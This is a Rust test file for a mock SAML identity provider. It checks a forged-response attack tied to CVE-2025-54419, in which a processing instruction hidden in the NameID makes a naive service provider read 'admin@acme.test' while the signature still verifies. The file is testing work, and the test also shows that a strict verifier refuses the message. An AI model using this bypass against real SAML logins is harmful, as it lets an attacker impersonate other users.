//! `pi_in_nameid` (CVE-2025-54419), checked with tools that are not the forge's code:
//! `xmlsec1` for the signature, a quick-xml reader that skips processing instructions (as
//! xml2js does in node-saml 5.0.1) for what a naive SP reads.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod saml_support;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use mock_idp::saml::forge::{self, ForgeSpec};
use mock_idp::saml::issue::IdpView;
use mock_idp::tenant::{PendingAuthn, SamlOptions, SignMode, SpSpec, Tenant, TenantSpec, User};
use saml_support::*;
use serde_json::{Value, json};

const GENUINE: &str = "admin@acme.test.attacker.test";
const FORGED: &str = "admin@acme.test";
const HIDDEN: &str = ".attacker.test";
const EMAIL: &str = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress";

fn tenant(email: &str, sign: SignMode) -> Tenant {
    Tenant::from_spec(TenantSpec {
        id: Some("forge-pi".into()),
        users: vec![User {
            email: email.into(),
            given_name: "Mallory".into(),
            family_name: "Evil".into(),
            ..Default::default()
        }],
        sp: Some(SpSpec {
            entity_id: Some("urn:sp:pi".into()),
            acs_url: Some("http://sp.test/acs".into()),
            metadata_url: None,
            certificate_pem: None,
            ..Default::default()
        }),
        saml: SamlOptions {
            sign,
            ..Default::default()
        },
        ..Default::default()
    })
    .unwrap()
}

fn issue(t: &Tenant, spec: Value) -> Result<String, String> {
    let spec: ForgeSpec = serde_json::from_value(spec).unwrap();
    let view = IdpView::of(t, "http://127.0.0.1:9");
    let request = PendingAuthn {
        request_id: Some("_req-pi".into()),
        acs_url: None,
        sp_issuer: None,
        relay_state: None,
    };
    forge::issue(&view, &t.users[0], Some(&request), &[], &spec)
        .map(|f| String::from_utf8(B64.decode(f.saml_response).unwrap()).unwrap())
        .map_err(|e| e.to_string())
}

#[test]
fn pi_in_nameid_hides_the_rest_where_only_a_pi_skipping_reader_loses_it() {
    let pi = format!("<?{} {HIDDEN}?>", forge::pi::TARGET);
    for sign in [SignMode::Assertion, SignMode::Response, SignMode::Both] {
        let t = tenant(GENUINE, sign);
        let cert = t.keys.primary.cert_pem.clone();
        let xml = issue(
            &t,
            json!({"attack": "pi_in_nameid", "forged_identity": FORGED}),
        )
        .unwrap();
        assert!(
            xml.contains(&format!("{FORGED}{pi}</saml:NameID>")),
            "{sign:?}\n{xml}"
        );
        // A reader that skips processing instructions (xml2js in node-saml 5.0.1) gets the
        // forged identity, from the NameID and from the email attribute alike.
        let els = elements(&xml);
        assert_eq!(first(&els, "NameID").unwrap().text, FORGED, "{sign:?}");
        assert_eq!(
            attribute_values(&xml, EMAIL).unwrap(),
            vec![FORGED.to_string()]
        );
        // The signed part is intact: with the PI's data read back as text (what xml-crypto's
        // c14n makes of a PI) xmlsec1 verifies every signature of the message...
        let as_xml_crypto_reads_it = xml.replace(&pi, HIDDEN);
        assert!(
            xmlsec_verify(&as_xml_crypto_reads_it, &cert),
            "{sign:?}\n{as_xml_crypto_reads_it}"
        );
        let els = elements(&as_xml_crypto_reads_it);
        assert_eq!(first(&els, "NameID").unwrap().text, GENUINE);
        // ...while xmlsec1's own c14n keeps the PI as markup, so the message as shipped fails:
        // an SP that canonicalizes by the book refuses it.
        assert!(!xmlsec_verify(&xml, &cert), "{sign:?}\n{xml}");
    }
}

#[test]
fn pi_in_nameid_needs_a_proper_prefix_of_the_signed_in_user() {
    // (White space and `?>` in the rest are refused too: unit tests in forge/pi.rs, as a
    // tenant's email can hold neither.)
    for (user, forged) in [("sam@acme.test", FORGED), (FORGED, FORGED)] {
        let t = tenant(user, SignMode::Assertion);
        let e = issue(
            &t,
            json!({"attack": "pi_in_nameid", "forged_identity": forged}),
        )
        .unwrap_err();
        assert!(e.contains("pi_in_nameid"), "{user}: {e}");
    }
}
